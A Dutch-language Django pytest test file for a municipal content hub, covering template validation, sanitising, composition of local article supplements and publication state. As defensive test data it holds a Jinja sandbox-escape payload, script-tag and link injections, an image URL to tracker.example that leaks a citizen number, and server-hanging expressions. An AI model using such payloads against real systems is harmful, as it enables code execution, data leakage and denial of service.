import pytest
from django.core.exceptions import ValidationError
from django.db import IntegrityError

from contenthub.content.models import GemeentelijkeAanvulling, VraagAntwoord
from contenthub.content.resolver import Herkomst, samengesteld
from contenthub.content.sjablonen import SjabloonFout, vul_sjabloon
from tests.factories import (
    AanvullingFactory,
    KennisartikelFactory,
    SjabloonFactory,
    VraagAntwoordFactory,
    publiceer,
    sectie,
)

pytestmark = pytest.mark.django_db


def test_sjabloon_weigert_website_en_social():
    sjabloon = SjabloonFactory.build(kanalen=["kcc", "website", "social"])
    with pytest.raises(ValidationError) as exc:
        sjabloon.full_clean()
    assert "website" in str(exc.value.message_dict["kanalen"]) and "social" in str(exc.value.message_dict["kanalen"])


def test_sjabloon_met_syntaxfout_noemt_de_regel():
    sjabloon = SjabloonFactory.build(sjabloon="Regel een\nBeste {{ persoon.naam ")
    with pytest.raises(ValidationError) as exc:
        sjabloon.full_clean()
    assert "regel 2" in str(exc.value.message_dict["sjabloon"])


def test_sjabloon_vult_slots_en_saniteert():
    html = vul_sjabloon("Beste **{{ p.naam }}**", {"p": {"naam": "<script>x</script>Jansen"}})
    assert "<strong>" in html and "<script" not in html and "Jansen" in html


def test_sjabloon_ontbrekend_slot_is_een_fout():
    with pytest.raises(SjabloonFout, match="Slot zonder waarde"):
        vul_sjabloon("{{ persoon.naam }}", {})


def test_sjabloon_sandbox_blokkeert_python_internals():
    with pytest.raises(SjabloonFout):
        vul_sjabloon("{{ ''.__class__.__mro__[1].__subclasses__() }}", {})


def test_kort_antwoord_boven_280_wordt_geweigerd_ook_in_de_database():
    vac = VraagAntwoordFactory.build(kort_antwoord="x" * 281)
    with pytest.raises(ValidationError) as exc:
        vac.full_clean()
    assert "281" in str(exc.value.message_dict["kort_antwoord"])
    with pytest.raises(IntegrityError):
        VraagAntwoord.objects.create(vraag="v", antwoord="a", kort_antwoord="x" * 281)


def test_kort_antwoord_van_280_mag():
    VraagAntwoordFactory.build(kort_antwoord="x" * 280).full_clean()


@pytest.mark.parametrize("veld", ["tekst", "kosten_en_betaalmethoden", "titel"])
def test_slot_in_generieke_tekst_blokkeert(veld):
    artikel = KennisartikelFactory.build(**{veld: "Uw paspoort verloopt op {{ reisdocument.vervaldatum }}."})
    with pytest.raises(ValidationError) as exc:
        artikel.full_clean()
    assert "persoonlijk slot" in str(exc.value.message_dict[veld])


def test_slot_in_gemeentelijke_sectie_blokkeert(dijkstad):
    from contenthub.content.models import SectieAanpassing

    with pytest.raises(ValidationError) as exc:
        SectieAanpassing(sectie="tekst", modus="aanvullen", tekst="Hallo {{ persoon.naam }}").full_clean(exclude=["aanvulling"])
    assert "persoonlijk slot" in str(exc.value.message_dict["tekst"])


def test_slot_in_vac_antwoord_blokkeert():
    with pytest.raises(ValidationError) as exc:
        VraagAntwoordFactory.build(antwoord="{% if x %}ja{% endif %}").full_clean()
    assert "antwoord" in exc.value.message_dict


def test_lokaal_product_heeft_uri_en_titel_nodig(dijkstad):
    lokaal = GemeentelijkeAanvulling(gemeente=dijkstad, kennisartikel=None)
    with pytest.raises(ValidationError) as exc:
        lokaal.full_clean()
    assert {"upn_uri", "titel"} <= set(exc.value.message_dict)


def test_gemeentelijke_vac_vervangt_alleen_generieke(dijkstad, bosrijk):
    generiek = VraagAntwoordFactory()
    lokaal_bosrijk = VraagAntwoordFactory(gemeente=bosrijk)
    VraagAntwoordFactory.build(gemeente=dijkstad, vervangt=generiek).full_clean()
    with pytest.raises(ValidationError, match="generieke VAC"):
        VraagAntwoordFactory.build(gemeente=dijkstad, vervangt=lokaal_bosrijk).full_clean()
    with pytest.raises(ValidationError, match="gemeentelijke VAC"):
        VraagAntwoordFactory.build(gemeente=None, vervangt=generiek).full_clean()


def test_gerelateerde_vacs_moeten_bestaan():
    bestaand = VraagAntwoordFactory()
    VraagAntwoordFactory.build(gerelateerde_vacs=[str(bestaand.pk)]).full_clean()
    with pytest.raises(ValidationError) as exc:
        VraagAntwoordFactory.build(gerelateerde_vacs=["geen-uuid"]).full_clean()
    assert "geen-uuid" in str(exc.value.message_dict["gerelateerde_vacs"])


def test_een_aanvulling_per_gemeente_en_kennisartikel(dijkstad):
    artikel = KennisartikelFactory()
    AanvullingFactory(gemeente=dijkstad, kennisartikel=artikel)
    with pytest.raises(ValidationError):
        AanvullingFactory.build(gemeente=dijkstad, kennisartikel=artikel).full_clean()


def test_resolver_gebruikt_alleen_de_live_aanvulling_van_de_eigen_gemeente(dijkstad, bosrijk):
    artikel = publiceer(KennisartikelFactory(live=False))
    eigen = AanvullingFactory.build(gemeente=dijkstad, kennisartikel=artikel)
    sectie(eigen, "kosten_en_betaalmethoden", "vervangen", "In Dijkstad € 80.")
    publiceer(eigen)
    ander = AanvullingFactory.build(gemeente=bosrijk, kennisartikel=artikel)
    sectie(ander, "kosten_en_betaalmethoden", "vervangen", "In Bosrijk € 70.")
    publiceer(ander)

    antwoord = samengesteld(artikel, dijkstad)
    assert antwoord.velden["kosten_en_betaalmethoden"] == "In Dijkstad € 80."
    assert antwoord.herkomst["kosten_en_betaalmethoden"] == Herkomst.VERVANGEN
    assert "Bosrijk" not in repr(antwoord.velden)

    # A draft of the aanvulling does not reach the composed (live) answer until it is published.
    concept = eigen.get_latest_revision_as_object()
    secties = list(concept.secties.all())
    secties[0].tekst = "In Dijkstad € 99."
    concept.secties = secties
    concept.save_revision()
    assert samengesteld(artikel, dijkstad).velden["kosten_en_betaalmethoden"] == "In Dijkstad € 80."
    # ...but its preview composes the draft.
    assert (
        samengesteld(artikel, dijkstad, aanvulling=eigen.get_latest_revision_as_object()).velden["kosten_en_betaalmethoden"]
        == "In Dijkstad € 99."
    )


def test_fingerprint_verandert_bij_nieuwe_generieke_revisie(dijkstad):
    artikel = publiceer(KennisartikelFactory(live=False))
    voor = samengesteld(artikel, dijkstad).fingerprint
    artikel.tekst = "Nieuwe landelijke tekst."
    publiceer(artikel)
    na = samengesteld(artikel, dijkstad).fingerprint
    assert na != voor
    artikel.eigenaar = "Ander team"  # metadata, not content
    publiceer(artikel)
    assert samengesteld(artikel, dijkstad).fingerprint == na


def test_sjabloon_slotwaarden_worden_geen_markup():
    html = vul_sjabloon("Beste {{ p.naam }}", {"p": {"naam": "[Klik](https://evil.example) **vet** <b>x</b>"}})
    assert "<a " not in html and "<strong>" not in html and "<b>" not in html
    assert "Klik" in html and "evil.example" in html


def test_sjabloon_zonder_afbeeldingen_geen_lek_naar_derden():
    html = vul_sjabloon("![](https://tracker.example/p.png?bsn={{ p.bsn }}) Hallo", {"p": {"bsn": "999990019"}})
    assert "<img" not in html and "tracker.example" not in html


@pytest.mark.parametrize("sjabloon", ["{{ 'a' * 10**9 }}", "{{ 'a' * 100000 }}", "{{ 2 ** 100000 }}", "{{ 1 / 0 }}"])
def test_sjabloon_kan_de_server_niet_laten_hangen(sjabloon):
    with pytest.raises(SjabloonFout):
        vul_sjabloon(sjabloon, {})


def test_kanalen_krijgen_geen_ongepubliceerde_generieke_tekst(dijkstad):
    from contenthub.content.resolver import NietGepubliceerd

    concept = KennisartikelFactory(live=False, tekst="Nog niet vrijgegeven.")
    with pytest.raises(NietGepubliceerd):
        samengesteld(concept, dijkstad, alleen_live=True)
    publiceer(concept)
    assert samengesteld(concept, dijkstad, alleen_live=True).velden["tekst"] == "Nog niet vrijgegeven."
    concept.unpublish()
    with pytest.raises(NietGepubliceerd):
        samengesteld(concept, dijkstad, alleen_live=True)
